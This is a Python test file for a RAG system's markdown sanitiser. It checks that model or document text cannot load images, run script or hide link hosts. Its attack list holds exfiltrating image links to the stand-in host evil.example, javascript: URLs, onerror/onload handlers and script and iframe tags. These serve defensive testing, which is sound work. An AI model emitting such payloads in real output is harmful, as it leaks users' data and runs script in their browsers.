"""What is shown of a model's or a document's text: nothing loads, no link hides its host."""

from __future__ import annotations

import json
import re
import timeit
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rag_core.markdown import SafeStream, safe_markdown, undisguised

CASES = Path(__file__).parents[2].parent / "shared" / "data" / "dev" / "injection" / "cases.jsonl"
RENDERERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})]
DISGUISED = re.compile(r"(?:https?://|www\.)[^\s/?#]*@", re.IGNORECASE)
DIRECTIVE = re.compile(r":[a-z]", re.IGNORECASE)

ATTACKS = [
    "![x](http://evil.example/?d=secret)",
    "!\u200b[x](http://evil.example/)",
    "!\u2066[x]\u200d(http://evil.example/)",
    "\\![x](http://evil.example/)",
    "\\\\![x](http://evil.example/)",
    "![x][e]\n\n[e]: http://evil.example/a.png",
    "![e]\n\n[e]:\nhttp://evil.example/a.png",
    "[e]\n\n> [e]: <http://evil.example/> 'title'",
    "[^1]\n\n[^1]: ![x](http://evil.example/)",
    "[good.example](http://evil.example/)",
    "[http://good.example](http://evil.example/)",
    "[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](JaVa\tScript:x)",
    "[a](&#106;avascript:alert(1))",
    "<javascript:alert(1)> <http://evil.example/> <x@evil.example>",
    "<img src=http://evil.example/> <IMG/SRC=x onerror=alert(1)>",
    "<svg/onload=alert(1)><style>@import 'http://evil.example'</style><!-- a --><?x ?>",
    "<![CDATA[x]]> <!DOCTYPE x>",
    "<scr\u200bipt src=//evil.example></script>",
    "| a | b |\n|---|---|\n| ![x](http://evil.example) | <img src=x> |",
    "- ![x](http://evil.example)\n  1. [t](http://evil.example)",
    "# ![x](http://evil.example)\n\n***![x](http://evil.example)***",
    "[![x](http://evil.example)](http://evil.example)",
    "`![`x](http://evil.example) ``` ![x](http://evil.example)",
    "[a\n]\n(http://evil.example)",
    "[x]\u00ad(http://evil.example) [y]\ufe00[z]",
    "!\U000e0001[x](http://evil.example)",
    "see http://good.example@evil.example/ and www.good.example@evil.example/x",
    "http://good.example:80@evil.example http://" + "a" * 300 + "@evil.example",
    "HTTPS://good.example\\@evil.example/",
    ":help[x]{onclick=alert(1)} :blue[x] ::leaf[x]{src=http://evil.example} :::c\n:::",
    ":material/home: :smile: :streamlit:",
    "[&#33;](x) &#33;[x](http://evil.example)",
    "<a href='http://evil.example'>x</a>\n\n<iframe src=//evil.example>",
]


def tokens(text: str, renderer: MarkdownIt) -> Iterator[Token]:
    for block in renderer.parse(text):
        yield block
        yield from block.children or []


def assert_harmless(text: str) -> None:
    """No image, no HTML, no link; bare addresses, which a browser may link, name their host."""
    for renderer in RENDERERS:
        kinds = {token.type for token in tokens(text, renderer)}
        assert not kinds & {"image", "html_inline", "html_block", "link_open"}, text
    assert not DISGUISED.search(text), text
    assert not DIRECTIVE.search(text), text


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_end_as_text(attack: str) -> None:
    assert_harmless(safe_markdown(attack))


@pytest.mark.skipif(not CASES.exists(), reason="the shared injection cases are not here")
def test_the_injection_cases_end_as_text() -> None:
    for line in CASES.read_text(encoding="utf-8").splitlines():
        case = json.loads(line)
        for text in (case["document"], case["attack"]):
            assert_harmless(safe_markdown(text))


SYNTAX = (
    r"![ ]( ]: ][ [ ] ( ) < > ! : // @ \ ` $ | a [e]:_ http://e.example www.e.example www w . "
    r"https: mailto: img_src=x / ? # &#33; ``` --- *_ 1._ 한글 $$ :red[ \\phantom \\col or{x} m"
)
PIECES = st.lists(
    st.one_of(
        st.sampled_from([piece.replace("_", " ") for piece in SYNTAX.split()]),
        st.sampled_from(["\n", "\n\n", "\r", "\u200b", "\u202e", "\U000e0041", "\ud800", " "]),
        st.text(max_size=4),
    ),
    max_size=40,
)


@settings(max_examples=400, deadline=None)
@given(PIECES)
def test_any_text_ends_harmless(pieces: list[str]) -> None:
    assert_harmless(safe_markdown("".join(pieces)))


@settings(max_examples=600, deadline=None)
@given(PIECES)
def test_a_stream_releases_prefixes_of_the_end(pieces: list[str]) -> None:
    stream = SafeStream()
    whole = safe_markdown("".join(pieces))
    shown = ""
    for piece in pieces:
        shown += stream.feed(piece)
        assert whole.startswith(shown)
    assert shown + stream.finish() == whole


@settings(max_examples=200, deadline=None)
@given(PIECES)
def test_twice_is_once(pieces: list[str]) -> None:
    once = safe_markdown("".join(pieces))
    assert safe_markdown(once) == once


def test_plain_prose_passes_untouched_and_undelayed() -> None:
    text = "총 516명이 응답했다 [1]. **굵게**, `코드`.\n\n- 항목 (가)\n\n| a | b |\n|---|---|\n"
    assert safe_markdown(text) == text
    stream = SafeStream()
    assert stream.feed("Hello, ") == "Hello, "
    assert stream.feed("see http://a.example/x for ") == "see http://a.example/x for "


def test_money_is_no_formula() -> None:
    assert safe_markdown("$7,650 or \\$3 but $$x$$") == "\\$7,650 or \\$3 but $$x$$"


def test_a_formula_hides_nothing() -> None:
    safe = safe_markdown(r"$$\frac{a}{b}$$ $$\phantom{x}\href{http://a.example}{y}\colors$$")
    assert r"$$\frac{a}{b}$$" in safe
    assert r"\colors" in safe
    assert "\\\u2060phantom{x}\\\u2060href" in safe


def test_an_address_is_no_disguise_in_a_quote() -> None:
    assert undisguised("see https://a.example/x@y") == "see https://a.example/x@y"
    assert undisguised("https://a.example@b.example") == "https:\u2060//a.example@b.example"


def test_marks_survive_between_joiners() -> None:
    assert safe_markdown("a [1][3]").replace("\u2060", "") == "a [1][3]"


HOSTILE = "a ![ [ ]( <a :a \\ $ \\$ www. http:// :// http://a w \u200b [[] a@ http://@ \r ![](<"


@pytest.mark.parametrize("hostile", HOSTILE.split(" "))
def test_hostile_text_takes_linear_time(hostile: str) -> None:
    text = hostile * (100_000 // len(hostile))
    seconds = timeit.repeat(lambda: safe_markdown(text), number=1, repeat=3)
    assert min(seconds) < 0.5  # 50 ms on an idle machine; what is quadratic takes minutes
